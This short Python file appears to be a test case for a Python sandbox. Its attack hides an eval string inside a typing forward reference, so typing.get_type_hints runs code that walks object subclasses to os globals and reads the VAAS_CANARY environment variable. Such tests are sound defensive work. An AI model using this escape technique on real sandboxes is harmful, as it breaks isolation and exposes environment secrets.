"""No app has a string evaluated by hiding it where no string is looked for."""

CLASS = "eval"
BOUNDARY = "both"
NEEDS = ("typing",)


import typing

found = []
CODE = (
    "leak([c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
    ".__init__.__globals__['environ']['VAAS_CANARY'])"
)


def leak(value):
    found.append(value)
    return int


reference = typing.get_args(typing.List[CODE])[0]
alias = typing.Literal[reference]


class Holder:
    x: alias


def attack():
    typing.get_type_hints(Holder)
    return "ESCAPED: " + found[0]
